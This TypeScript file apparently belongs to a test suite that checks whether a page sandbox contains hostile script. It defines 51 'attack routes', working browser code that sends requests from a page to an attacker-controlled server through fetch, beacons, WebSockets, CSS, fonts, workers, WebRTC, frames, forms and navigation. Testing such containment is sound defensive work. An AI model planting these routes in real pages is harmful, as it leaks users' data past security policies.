/**
 * The 51 ways out of a page that trust.md §1.2 counts. Each function runs in the page, as hostile script would, so it must not
 * use anything from outside itself but what it is handed.
 */
export type Target = {
  /** Address on the attacker's web server that names this route; endings choose the answer's kind. */
  readonly url: string;
  readonly tcp: string;
  readonly dns: string;
  readonly stun: string;
  /** Address of `worker.js`, on the app's own origin. */
  readonly worker: string;
};

/** `alone`: takes the page away, or needs one that has come to rest, so it gets a page of its own. `ending` tells the attacker what to answer with. */
export type AttackRoute = {
  readonly name: string;
  readonly ending?: string;
  readonly alone?: true;
  readonly run: (target: Target) => unknown;
};

/** What `arm.js` puts in the page before any script. */
declare global {
  var attack: {
    add(tag: string, attributes: Record<string, string>, parent?: Element): HTMLElement;
    worker(address: string, way: string, url: string, kind?: 'module' | 'shared'): Promise<unknown>;
    blobWorker(text: string): unknown;
    frame(set: (frame: HTMLIFrameElement) => void): Promise<HTMLIFrameElement>;
    click(attributes: Record<string, string>): void;
  };
}

export const routes: readonly AttackRoute[] = [
  { name: 'fetch', run: ({ url }) => fetch(url) },
  { name: 'fetch-no-cors', run: ({ url }) => fetch(url, { mode: 'no-cors' }) },
  {
    name: 'fetch-keepalive',
    run: ({ url }) => fetch(url, { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' }),
  },
  {
    name: 'xhr',
    run: ({ url }) => {
      const request = new XMLHttpRequest();
      request.open('GET', url);
      request.send();
    },
  },
  { name: 'beacon', run: ({ url }) => navigator.sendBeacon(url, 'x') },
  { name: 'websocket', run: ({ url }) => new WebSocket(url.replace('http', 'ws')) },
  { name: 'eventsource', ending: '.events', run: ({ url }) => new EventSource(url) },
  { name: 'img', ending: '.svg', run: ({ url }) => (new Image().src = url) },
  {
    name: 'svg-image',
    ending: '.svg',
    run: ({ url }) => {
      const ns = 'http://www.w3.org/2000/svg';
      const svg = document.createElementNS(ns, 'svg');
      const image = document.createElementNS(ns, 'image');
      image.setAttribute('href', url);
      svg.append(image);
      document.body.append(svg);
    },
  },
  {
    name: 'css-link',
    ending: '.css',
    run: ({ url }) => attack.add('link', { rel: 'stylesheet', href: url }),
  },
  {
    name: 'css-import',
    ending: '.css',
    run: ({ url }) => (attack.add('style', {}).textContent = `@import url("${url}");`),
  },
  {
    name: 'style-attribute',
    ending: '.svg',
    run: ({ url }) => attack.add('div', { style: `background: url("${url}"); height: 9px` }),
  },
  {
    name: 'cssom',
    ending: '.svg',
    run: ({ url }) => {
      const box = attack.add('div', {});
      box.style.height = '9px';
      box.style.backgroundImage = `url("${url}")`;
    },
  },
  {
    name: 'constructed-sheet',
    ending: '.svg',
    run: ({ url }) => {
      const sheet = new CSSStyleSheet();
      sheet.replaceSync(`.constructed { height: 9px; background: url("${url}") }`);
      document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
      attack.add('div', { class: 'constructed' });
    },
  },
  {
    name: 'web-font',
    run: ({ url }) => {
      const face = `@font-face { font-family: evil; src: url("${url}") }`;
      const text = `${face} .evil { font-family: evil }`;
      try {
        attack.add('style', {}).textContent = text;
      } finally {
        const sheet = new CSSStyleSheet();
        sheet.replaceSync(text);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet];
        attack.add('p', { class: 'evil' }).textContent = 'evil';
      }
    },
  },
  { name: 'font-face', run: ({ url }) => new FontFace('evil-2', `url("${url}")`).load() },
  { name: 'script', ending: '.js', run: ({ url }) => attack.add('script', { src: url }) },
  { name: 'import', ending: '.js', run: ({ url }) => import(url) },
  {
    name: 'modulepreload',
    ending: '.js',
    run: ({ url }) => attack.add('link', { rel: 'modulepreload', href: url }),
  },
  {
    name: 'preload',
    ending: '.js',
    run: ({ url }) => attack.add('link', { rel: 'preload', as: 'script', href: url }),
  },
  { name: 'prefetch', run: ({ url }) => attack.add('link', { rel: 'prefetch', href: url }) },
  { name: 'preconnect', run: ({ tcp }) => attack.add('link', { rel: 'preconnect', href: tcp }) },
  {
    name: 'dns-prefetch',
    run: ({ dns }) => attack.add('link', { rel: 'dns-prefetch', href: dns }),
  },
  {
    name: 'icon',
    ending: '.svg',
    alone: true,
    run: ({ url }) => {
      for (const old of document.querySelectorAll('link[rel~=icon]')) old.remove();
      attack.add('link', { rel: 'icon', href: url, type: 'image/svg+xml' }, document.head);
    },
  },
  {
    name: 'manifest',
    ending: '.json',
    alone: true,
    run: ({ url }) => {
      for (const old of document.querySelectorAll('link[rel=manifest]')) old.remove();
      attack.add('link', { rel: 'manifest', href: url }, document.head);
    },
  },
  { name: 'iframe', run: ({ url }) => attack.add('iframe', { src: url }) },
  {
    name: 'object',
    ending: '.svg',
    run: ({ url }) => attack.add('object', { data: url, type: 'image/svg+xml' }),
  },
  {
    name: 'embed',
    ending: '.svg',
    run: ({ url }) => attack.add('embed', { src: url, type: 'image/svg+xml' }),
  },
  { name: 'video', run: ({ url }) => attack.add('video', { src: url, preload: 'auto' }) },
  {
    name: 'track',
    ending: '.vtt',
    run: ({ url }) => {
      const video = attack.add('video', { crossorigin: 'anonymous' }) as HTMLVideoElement; // of that tag
      attack.add('track', { src: url, default: '', kind: 'captions' }, video);
      if (video.textTracks[0]) video.textTracks[0].mode = 'showing';
    },
  },
  {
    name: 'form',
    alone: true,
    run: ({ url }) => {
      const form = attack.add('form', { action: url, method: 'post' }) as HTMLFormElement; // of that tag
      form.submit();
    },
  },
  { name: 'ping', run: ({ url }) => attack.click({ href: '#ping', ping: url }) },
  {
    name: 'srcdoc-frame',
    ending: '.svg',
    run: ({ url }) => attack.frame((frame) => (frame.srcdoc = `<img src="${url}">`)),
  },
  {
    name: 'blank-frame-fetch',
    run: async ({ url }) => {
      const frame = await attack.frame(() => {});
      return frame.contentWindow?.fetch(url, { mode: 'no-cors' });
    },
  },
  {
    name: 'blob-frame-img',
    ending: '.svg',
    run: ({ url }) =>
      attack.frame((frame) => {
        const page = new Blob([`<img src="${url}">`], { type: 'text/html' });
        frame.src = URL.createObjectURL(page);
      }),
  },
  {
    name: 'blob-frame-script',
    run: ({ url }) =>
      attack.frame((frame) => {
        const script = `<script>fetch("${url}", { mode: 'no-cors' })</script>`;
        frame.src = URL.createObjectURL(new Blob([script], { type: 'text/html' }));
      }),
  },
  { name: 'worker-fetch', run: ({ url, worker }) => attack.worker(worker, 'fetch', url) },
  { name: 'worker-xhr', run: ({ url, worker }) => attack.worker(worker, 'xhr', url) },
  {
    name: 'worker-import-scripts',
    ending: '.js',
    run: ({ url, worker }) => attack.worker(worker, 'scripts', url),
  },
  {
    name: 'worker-import',
    ending: '.js',
    run: ({ url, worker }) => attack.worker(worker, 'import', url, 'module'),
  },
  { name: 'worker-websocket', run: ({ url, worker }) => attack.worker(worker, 'socket', url) },
  {
    name: 'blob-worker-fetch',
    run: ({ url }) => attack.blobWorker(`fetch("${url}", { mode: 'no-cors' })`),
  },
  {
    name: 'blob-worker-import-scripts',
    ending: '.js',
    run: ({ url }) => attack.blobWorker(`importScripts("${url}")`),
  },
  {
    name: 'shared-worker-fetch',
    run: ({ url, worker }) => attack.worker(worker, 'fetch', url, 'shared'),
  },
  {
    name: 'webrtc',
    run: async ({ stun }) => {
      const connection = new RTCPeerConnection({ iceServers: [{ urls: stun }] });
      connection.createDataChannel('secret');
      await connection.setLocalDescription(await connection.createOffer());
    },
  },
  { name: 'window-open', alone: true, run: ({ url }) => window.open(url) },
  {
    name: 'window-open-noopener',
    alone: true,
    run: ({ url }) => window.open(url, '_blank', 'noopener'),
  },
  {
    name: 'frame-navigation',
    run: async ({ url }) => {
      const frame = await attack.frame(() => {});
      if (frame.contentWindow) frame.contentWindow.location.href = url;
    },
  },
  {
    name: 'frame-refresh',
    run: async ({ url }) => {
      const frame = await attack.frame(() => {});
      const refresh = frame.contentDocument?.createElement('meta');
      refresh?.setAttribute('http-equiv', 'refresh');
      refresh?.setAttribute('content', `0; url=${url}`);
      if (refresh) frame.contentDocument?.head.append(refresh);
    },
  },
  {
    name: 'download-link',
    alone: true,
    run: ({ url }) => attack.click({ href: url, download: 'secret.txt' }),
  },
  { name: 'top-navigation', alone: true, run: ({ url }) => void (location.href = url) },
];
